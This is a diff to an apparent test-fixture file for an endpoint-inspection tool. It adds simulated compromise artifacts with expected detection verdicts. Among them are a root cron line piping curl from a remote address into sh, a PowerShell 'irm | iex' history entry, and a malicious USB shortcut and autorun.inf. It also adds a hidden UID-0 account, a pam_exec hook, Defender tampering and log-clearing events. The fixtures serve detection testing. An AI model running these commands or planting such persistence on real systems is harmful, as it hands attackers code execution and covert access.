@@ -7,6 +7,7 @@ D4 clean.
 
 from __future__ import annotations
 
+import struct
 from typing import Any
 
 from quetsach.endpoint.profile import Profile
@@ -41,6 +42,18 @@ def _key(key: str, **values: Any) -> dict[str, Any]:
 
 def _hosts(*lines: str) -> dict[str, Any]:
     return _file(HOSTS, "127.0.0.1 localhost\n" + "".join(f"{line}\n" for line in lines))
+
+
+def shortcut(target: str, arguments: str = "", *, by_variables: bool = False) -> str:
+    """A shortcut as [MS-SHLLINK] describes it: path and arguments as texts, or the path in a block behind."""
+    flags = 0x80 | (0x20 if arguments else 0) | (0 if by_variables else 8)
+    parts = [struct.pack("<I16sI52x", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags)]
+    for text in ([] if by_variables else [target]) + ([arguments] if arguments else []):
+        parts.append(struct.pack("<H", len(text)) + text.encode("utf-16-le"))
+    if by_variables:
+        wide = target.encode("utf-16-le").ljust(520, b"\0")
+        parts.append(struct.pack("<II", 0x314, 0xA0000001) + target.encode().ljust(260, b"\0") + wide)
+    return (b"".join(parts) + bytes(4)).decode("utf-8", "surrogateescape")
 
 
 def _rule(text: str) -> dict[str, Any]:
@@ -95,7 +108,7 @@ DISK: dict[str, tuple[dict[str, Any], str]] = {
         _key(r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{1}", DisplayName="KMSpico 10.2"),
         "check",
     ),
-    "EXEC-01": (_file(r"C:\Windows\Prefetch\KMSELDI.EXE-1A2B3C4D.pf", "MAM"), "check"),
+    "EXEC-01": (_file(r"C:\Windows\Prefetch\KMSELDI.EXE-1A2B3C4D.pf", "MAM"), "traces"),
     "PSH-01": (_file(HISTORY, "irm https://get.activated.win | iex\n"), "check"),
     "PSH-02": (_file(HISTORY, "irm https://get.activate.win | iex\n"), "found"),
     "BOOT-01": (_file(r"C:\EFI\WindSLIC\BOOTX64.EFI"), "found"),
@@ -153,6 +166,8 @@ DISK: dict[str, tuple[dict[str, Any], str]] = {
         _key(rf"{NT}\Schedule\TaskCache\Tree\WinUpdate", Id="{9C8F0A6B-1111-2222-3333-444455556666}"),
         "check",
     ),
+    "USB-01": (_file(r"E:\TAI LIEU.lnk", shortcut(r"..\Windows\cmd.exe", "/c start an\\x.dat")), "check"),
+    "USB-02": (_file(r"E:\autorun.inf", "[autorun]\nopen=an\\x.exe /s\n"), "traces"),
     "OLD-01": (_key(NT, CurrentBuildNumber="7601", ProductName="Windows 7 Professional"), "clean"),
 }
 
@@ -262,6 +277,29 @@ RUNNING: dict[str, tuple[dict[str, Any], str]] = {
         ),
         "check",
     ),
+    "AV-08": (
+        _event(
+            _DEFENDER_LOG, _DEFENDER, 1116,
+            {"Threat Name": "Trojan:Win32/Emotet.A", "Path": r"file:_C:\Users\an\a.exe", "Action ID": "9"},
+        ),
+        "check",
+    ),
+    "AV-09": (_event(_DEFENDER_LOG, _DEFENDER, 5001, {"Product Name": "x"}), "traces"),
+    "AV-10": (
+        _event(_DEFENDER_LOG, _DEFENDER, 5007, {"New Value": rf"{DEFENDER}\Exclusions\Paths\C:\Users = 0x0"}),
+        "traces",
+    ),
+    "EXEC-02": (
+        _event(
+            "System.evtx", "Service Control Manager", 7045,
+            {"ServiceName": "Service KMSELDI", "ImagePath": r"C:\x\y.exe"},
+        ),
+        "check",
+    ),
+    "LOG-01": (
+        _event("System.evtx", "Microsoft-Windows-Eventlog", 104, {"LogFileCleared": {"Channel": "System"}}),
+        "traces",
+    ),
     "ADO-01": (_unsigned(r"C:\Program Files\Adobe\Adobe Photoshop\amtlib.dll"), "check"),
     "MAL-01": (_file(rf"{DOWNLOADS}\hoa don.exe", PE + "planted-campaign-string"), "found"),
 }  # fmt: skip
@@ -274,6 +312,16 @@ LINUX: dict[str, tuple[dict[str, Any], str]] = {
     ),
     "LNX-03": (_file("/etc/cron.d/apt", "* * * * * root curl -s http://192.0.2.1/a | sh\n"), "check"),
     "LNX-04": (_file("/etc/pam.d/sshd", "auth optional pam_exec.so /usr/bin/x\n"), "check"),
+    "LNX-06": (
+        _file("/etc/passwd", "root:x:0:0::/root:/bin/sh\nhelp:x:0:0::/home/help:/bin/sh\n"),
+        "check",
+    ),
+    "LNX-07": (
+        _file(
+            "/root/.ssh/authorized_keys", 'command="/usr/bin/borg serve" ssh-ed25519 AAAA an@example.org\n'
+        ),
+        "clean",
+    ),
     "LNX-05": (_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA an@example.org\n"), "clean"),
 }
 PROFILES = {"LIC-03": BUYS_NONE}
